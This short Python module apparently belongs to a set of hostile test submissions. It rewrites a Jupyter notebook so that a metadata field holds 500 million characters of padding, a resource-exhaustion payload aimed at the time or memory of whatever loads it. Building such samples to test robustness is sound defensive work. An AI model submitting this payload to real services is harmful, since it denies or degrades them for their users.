"""Hands in a notebook of half a gigabyte."""

import json


prize = "time"
harmless = False


def rewrite(notebook, folder):
    notebook["metadata"]["ballast"] = ""
    return json.dumps(notebook).replace('"ballast": ""', '"ballast": "' + "x" * 500_000_000 + '"').encode()
